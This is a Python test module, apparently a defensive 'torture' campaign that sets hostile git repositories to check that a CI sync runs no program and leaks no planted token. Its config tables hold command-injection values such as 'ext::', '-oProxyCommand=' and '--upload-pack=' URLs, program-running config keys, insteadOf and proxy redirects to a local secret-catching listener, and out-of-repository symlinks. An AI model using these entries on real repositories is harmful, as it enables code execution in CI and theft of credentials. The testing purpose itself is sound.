"""The campaign of hostile repositories: configuration, hooks and files below `.git`."""

import random
import subprocess
import sys
import tempfile
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Self

from tests.support.git_server import GitServer, to_basic
from tests.support.repositories import ENVIRON, GitRepo
from tests.torture.campaign import Campaign, Trial
from tests.torture.process import ROOT

TOKEN = "ghs_planted0123456789"
KEY = "sk-planted-0123456789abcdef"
SECONDS = 60.0

_HOOKS = (
    *("pre-commit", "post-commit", "pre-push", "post-checkout", "post-merge", "post-rewrite"),
    *("reference-transaction", "post-index-change", "fsmonitor-watchman", "pre-auto-gc"),
    *("pre-receive", "update", "post-receive", "proc-receive", "sendemail-validate"),
)


class Thief:
    """A server that remembers all it is sent, and answers nothing good; a context manager."""

    def __enter__(self) -> Self:
        heard = self.heard = []

        class Ear(BaseHTTPRequestHandler):
            def log_message(self, *_: object) -> None:
                """Say nothing."""

            def listen(self) -> None:
                """Take everything in."""
                size = int(self.headers.get("Content-Length") or 0)
                heard.append(f"{self.requestline}\n{self.headers}\n{self.rfile.read(size)!r}")
                self.send_error(418)

        for method in ("GET", "POST", "PUT", "CONNECT"):
            setattr(Ear, f"do_{method}", Ear.listen)

        self._http = ThreadingHTTPServer(("127.0.0.1", 0), Ear)
        self._thread = threading.Thread(target=self._http.serve_forever, args=(0.02,))
        self._thread.start()
        return self

    heard: list[str]

    def __exit__(self, *_: object) -> None:
        self._http.shutdown()
        self._http.server_close()
        self._thread.join()

    @property
    def url(self) -> str:
        """Where it listens."""
        return f"http://127.0.0.1:{self._http.server_address[1]}"


@dataclass(frozen=True)
class Trap:
    """One hostile repository: lines of its configuration, and what else is done to it."""

    name: str
    config: str = ""
    """With `{run}` for a command, `{thief}` and `{origin}` for URLs and `{out}` for a folder."""

    act: Callable[["Ground"], object] = field(default=lambda _: None)


class Ground:
    """A repository with a remote over TLS, a thief, and a command that must never be run."""

    def __init__(self, folder: Path, git: GitServer, thief: Thief) -> None:
        self.folder = folder
        self.git = git
        self.thief = thief
        folder.mkdir()
        name = f"{folder.name}.git"
        self.origin = git.url(name)
        bare = git.create(name)
        self.repo = GitRepo.init(folder / "repo")
        self.repo.commit({"docs/a.md": "# A\n", "docs/b.md": "# B\n"})
        self.repo.run("remote", "add", "origin", self.origin)
        self.repo.run("push", "--quiet", str(bare), "HEAD:main")
        self.outside = folder / "outside"
        self.outside.mkdir()
        (self.outside / "theirs").write_text("theirs\n", encoding="utf-8")
        self.proof = folder / "was-run"
        self.script = folder / "run"
        self.script.write_text(f"#!/bin/sh\necho $0 >> {self.proof}\n", encoding="utf-8")
        self.script.chmod(0o755)

    @property
    def git_dir(self) -> Path:
        """The repository's directory."""
        return self.repo.root / ".git"

    def set(self, trap: Trap) -> None:
        """Do what a trap says."""
        words = {
            "run": str(self.script),
            "thief": self.thief.url,
            "origin": self.origin,
            "out": str(self.outside),
        }
        text = trap.config
        for name, value in words.items():
            text = text.replace(f"{{{name}}}", value)
        with (self.git_dir / "config").open("a", encoding="utf-8") as config:
            config.write(f"\n{text}\n")
        trap.act(self)

    def sync(self) -> tuple[int, str]:
        """Run a sync as a job on GitHub would; 124 for one that hangs."""
        environ = {
            **ENVIRON,
            "PYTHONPATH": str(ROOT),
            "PYTHONDONTWRITEBYTECODE": "1",
            "HOME": str(self.folder),
            "CI": "true",
            "GITHUB_ACTIONS": "true",
            "GITHUB_SERVER_URL": self.git.origin,
            "GITHUB_TOKEN": TOKEN,
            "OPENAI_API_KEY": KEY,
            "GIT_SSL_CAINFO": str(self.git.certificate),
        }
        words = (sys.executable, "-m", "vectornator", "sync", "--provider", "memory")
        try:
            done = subprocess.run(
                (*words, "--store-name", "docs", "--comment-on-pr", "never"),
                cwd=self.repo.root,
                env=environ,
                capture_output=True,
                text=True,
                errors="replace",
                timeout=SECONDS,
                check=False,
            )
        except subprocess.TimeoutExpired:
            return 124, "it hangs"
        return done.returncode, done.stdout + done.stderr

    def find_faults(self, code: int, told: str) -> Iterator[str]:
        """What must not have come of a run."""
        if self.proof.exists():
            yield f"it ran {self.proof.read_text('utf-8').splitlines()}"
        if stolen := [it for it in self.thief.heard if TOKEN in it or KEY in it or BASIC in it]:
            yield f"a secret went elsewhere: {stolen[0].splitlines()[0]}"
        if sorted(it.name for it in self.outside.iterdir()) != ["theirs"]:
            yield "something was written outside of the repository"
        if code not in {0, 2, 5}:
            yield f"it ended with {code}: {told.splitlines()[-1:]}"
        if TOKEN in told or KEY in told:
            yield "a secret was told"


BASIC = to_basic("x-access-token", TOKEN).removeprefix("Basic ")


def _section(name: str, *lines: str) -> str:
    return "\n".join([f"[{name}]", *(f"\t{line}" for line in lines)])


_COMMANDS = {
    "core": (
        *("fsmonitor", "sshCommand", "gitProxy", "askPass", "editor", "pager", "hooksPath"),
        *("alternateRefsCommand", "packedRefsHook"),
    ),
    'filter "evil"': ("clean", "smudge", "process"),
    'diff "evil"': ("command", "textconv"),
    "diff": ("external",),
    'merge "evil"': ("driver",),
    "gpg": ("program",),
    'gpg "ssh"': ("program", "defaultKeyCommand"),
    "uploadpack": ("packObjectsHook",),
    "credential": ("helper",),
    'remote "origin"': ("uploadpack", "receivepack", "vcs", "proxy"),
    "sequence": ("editor",),
    "pager": ("log", "diff"),
    "alias": ("credential", "fetch", "upload-pack"),
    "transfer": ("credentialsInUrl",),
    "trailer": ("command",),
    'submodule "x"': ("update",),
}
"""What git may run, by section and name."""

_LINES = {
    "a signed commit": "[commit]\n\tgpgSign = true\n[gpg]\n\tprogram={run}",
    "another remote": '[remote "origin"]\n\turl = {thief}/r.git',
    "another push URL": '[remote "origin"]\n\tpushurl = {thief}/r.git',
    "a URL with a password": '[remote "origin"]\n\turl = http://a:b@127.0.0.1:9/r.git',
    "insteadOf": '[url "{thief}/"]\n\tinsteadOf = https://',
    "pushInsteadOf": '[url "{thief}/"]\n\tpushInsteadOf = https://',
    "insteadOf everything": '[url "{thief}/"]\n\tinsteadOf = h\n\tinsteadOf = /',
    "insteadOf a program": '[url "ext::{run} "]\n\tinsteadOf=h\n[protocol "ext"]\n\tallow=always',
    "a program": '[remote "origin"]\n\turl = ext::{run}\n[protocol "ext"]\n\tallow = always',
    "a descriptor": '[remote "origin"]\n\turl = fd::0/x',
    "git's own protocol": '[remote "origin"]\n\turl = git://127.0.0.1:9/x',
    "an option for ssh": '[remote "origin"]\n\turl = ssh://-oProxyCommand={run}/x',
    "an option for scp": '[remote "origin"]\n\turl = -oProxyCommand={run}:x',
    "an option": '[remote "origin"]\n\turl = --upload-pack={run}',
    "a shell": '[remote "origin"]\n\turl = "`{run}`"',
    "a device": '[remote "origin"]\n\turl = /dev/zero',
    "a file": '[remote "origin"]\n\turl = file:///etc/passwd',
    "a line break": '[remote "origin"]\n\turl = "https://127.0.0.1:9/x\\nHost: y"',
    "a proxy": "[http]\n\tproxy = {thief}",
    "a proxy of the origin": '[http "{origin}"]\n\tproxy = {thief}',
    "a proxy with a password": "[http]\n\tproxy = http://a:b@127.0.0.1:9",
    "another kind of proxy": "[http]\n\tproxy = socks5://127.0.0.1:9",
    "a header": "[http]\n\textraHeader = X-A: b",
    "an Authorization": "[http]\n\textraHeader = Authorization: Basic eDp5",
    "headers of two lines": '[http]\n\textraHeader = "X-A: b\\nHost: evil"',
    "cookies": "[http]\n\tcookieFile = {out}/theirs\n\tsaveCookies = true",
    "certificates that are not there": "[http]\n\tsslCAInfo = /nowhere.pem",
    "another address": "[http]\n\tcurloptResolve = 127.0.0.1:443:127.0.0.1",
    "redirects": "[http]\n\tfollowRedirects = true",
    "an include of nothing": "[include]\n\tpath = /nowhere",
    "an include of a secret": "[include]\n\tpath = {out}/theirs",
    "an include of itself": "[include]\n\tpath = config",
    "an include of a folder": "[include]\n\tpath = {out}",
    "an include of a device": "[include]\n\tpath = /dev/zero",
    "an include of a terminal": "[include]\n\tpath = /dev/stdin",
    "a work tree outside": "[core]\n\tworktree = {out}",
    "a bare repository": "[core]\n\tbare = true",
    "a version of tomorrow": "[core]\n\trepositoryFormatVersion = 99",
    "an extension of tomorrow": "[core]\n\trepositoryFormatVersion = 1\n[extensions]\n\tx = y",
    "other objects": "[core]\n\trepositoryFormatVersion = 1\n[extensions]\n\tobjectFormat = sha256",
    "other refs": "[core]\n\trepositoryFormatVersion = 1\n[extensions]\n\trefStorage = reftable",
    "a promisor": '[extensions]\n\tpartialClone = e\n[remote "e"]\n\turl={thief}/r\n\tpromisor=1',
    "a lone bracket": "[",
    "no section": "x = y",
    "no name": "[core]\n\t= y",
    "a NUL": "[core]\n\tx = \0",
    "rubbish": "\x01\x02\x7f",
    "a long line": "[core]\n\tx = " + "y" * 10_000_000,
    "many sections": "\n".join(f'[a "{number}"]\n\tb = c' for number in range(50_000)),
    "many values": "[http]\n" + "\textraHeader = X: y\n" * 20_000,
    "a deep pattern": '[includeIf "gitdir:' + "**/" * 500 + 'x"]\n\tpath = y',
    "a pattern that backtracks": '[includeIf "gitdir:' + "*a" * 60 + 'x"]\n\tpath = y',
}


def list_traps() -> list[Trap]:
    """Every hostile repository."""
    commands = [
        Trap(f"{name}.{key}", _section(name, f"{key} = {{run}}"), _use_attributes)
        for name, keys in _COMMANDS.items()
        for key in keys
    ]
    shells = [
        Trap(f"{name} with a shell", _section(section, f"{key} = !{{run}}"))
        for name, (section, key) in {
            "credential.helper": ("credential", "helper"),
            "alias": ("alias", "credential"),
            "submodule": ('submodule "x"', "update"),
        }.items()
    ]
    lines = [Trap(name, text) for name, text in _LINES.items()]
    hooks = [Trap(f"hook {name}", act=partial(_add_hook, name)) for name in _HOOKS]
    files = [Trap(f"file {name}", act=act) for name, act in _FILES.items()]
    return [*commands, *shells, *lines, *hooks, *files]


def _use_attributes(ground: Ground) -> None:
    words = "* filter=evil diff=evil merge=evil text eol=crlf ident working-tree-encoding=UTF-16\n"
    (ground.git_dir / "info").mkdir(exist_ok=True)
    (ground.git_dir / "info/attributes").write_text(words, encoding="utf-8")
    (ground.repo.root / ".gitattributes").write_text(words, encoding="utf-8")


def _add_hook(name: str, ground: Ground) -> None:
    (ground.git_dir / "hooks").mkdir(exist_ok=True)
    (ground.git_dir / "hooks" / name).symlink_to(ground.script)


def _write(place: str, content: str | bytes) -> Callable[[Ground], object]:
    def act(ground: Ground) -> None:
        path = ground.git_dir / place
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)

    return act


def _link(place: str, there: str) -> Callable[[Ground], object]:
    def act(ground: Ground) -> None:
        path = ground.git_dir / place
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.symlink_to(there.replace("{out}", str(ground.outside)))

    return act


def _replace_git_dir(text: str) -> Callable[[Ground], object]:
    def act(ground: Ground) -> None:
        ground.git_dir.rename(ground.folder / "moved")
        ground.git_dir.write_text(text.replace("{moved}", str(ground.folder / "moved")), "utf-8")

    return act


_FILES: dict[str, Callable[[Ground], object]] = {
    "HEAD leads out": _write("HEAD", "ref: ../../outside/theirs\n"),
    "HEAD leads to itself": _write("HEAD", "ref: HEAD\n"),
    "HEAD is rubbish": _write("HEAD", b"\xff" * 100),
    "HEAD is empty": _write("HEAD", ""),
    "HEAD is huge": _write("HEAD", "ref: refs/heads/" + "x" * 5_000_000),
    "a ref is a link": _link("refs/notes/vectornator", "{out}/theirs"),
    "a ref is a link to nothing": _link("refs/notes/vectornator", "{out}/new"),
    "notes lead out": _link("refs/notes", "{out}"),
    "packed refs are rubbish": _write("packed-refs", b"\xff\0" * 1000),
    "packed refs are many": _write(
        "packed-refs", "".join(f"{'1' * 40} refs/heads/{n}\n" for n in range(100_000))
    ),
    "packed refs lead out": _write("packed-refs", f"{'1' * 40} refs/notes/../../../outside/x\n"),
    "alternates lead out": _write("objects/info/alternates", "../../../outside\n/etc\n"),
    "alternates are devices": _write("objects/info/alternates", "/dev\n/dev/zero\n/dev/stdin\n"),
    "alternates lead in circles": _write("objects/info/alternates", ".\n../objects\n" * 1000),
    "alternates over http": _write("objects/info/http-alternates", "http://127.0.0.1:9/\n"),
    "shallow is rubbish": _write("shallow", b"\xff\n" * 100),
    "shallow is huge": _write("shallow", f"{'2' * 40}\n" * 200_000),
    "grafts": _write("info/grafts", f"{'1' * 40} {'2' * 40}\n"),
    "commondir leads out": _write("commondir", "../../outside\n"),
    "commondir is a device": _write("commondir", "/dev\n"),
    "commondir is rubbish": _write("commondir", b"\0\xff"),
    "index is rubbish": _write("index", b"DIRC\0\0\0\2\xff\xff\xff\xff"),
    "config of the work tree": _write("config.worktree", '[remote "origin"]\n\turl = ext::x\n'),
    "config is a link": _link("config", "{out}/theirs"),
    ".gitmodules": lambda it: it.repo.commit(
        {".gitmodules": '[submodule "x"]\n\tpath = ../../x\n\turl = -x\n\tupdate = !x\n'}
    ),
    ".git leads elsewhere": _replace_git_dir("gitdir: {moved}\n"),
    ".git leads to nothing": _replace_git_dir("gitdir: /nowhere\n"),
    ".git leads to a device": _replace_git_dir("gitdir: /dev\n"),
    ".git leads to itself": _replace_git_dir("gitdir: .git\n"),
    ".git is rubbish": _replace_git_dir("\x00\x01"),
    ".git is empty": _replace_git_dir(""),
    "the store's folder leads out": _link("../.vectornator", "{out}"),
}


def try_traps(size: int, seed: int) -> Iterator[Trial]:
    """Set so many traps, each in a repository of its own."""
    with ExitStack() as stack:
        folder = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="configs-")))
        served = folder / "served"
        served.mkdir()
        git = stack.enter_context(GitServer(served, authorization=f"Basic {BASIC}", tls=True))
        thief = stack.enter_context(Thief())
        traps = list_traps()
        chosen = random.Random(seed).sample(traps, min(size, len(traps)))
        for number, trap in enumerate(chosen):
            thief.heard.clear()
            ground = Ground(folder / str(number), git, thief)
            ground.set(trap)
            code, told = ground.sync()
            words = "led elsewhere, without a secret" if thief.heard else "no effect"
            outcome = "refused" if code else words
            yield Trial(trap.name, outcome, tuple(ground.find_faults(code, told)))


NOT_COVERED = (
    "What git itself would do to reach a remote is done: an ssh remote is reached with the "
    "configured ssh command, a server that refuses the token has git's credential helpers asked, "
    "and certificates are not checked where `http.sslVerify` says so."
)

CONFIGS = Campaign(
    name="configs",
    claim=(
        "Nothing that stands below `.git` makes a sync in CI run a program, send the job's token "
        "or a key to another server, or write outside of the repository."
    ),
    short=6,
    long=1000,
    trials=try_traps,
    not_covered=(NOT_COVERED,),
)
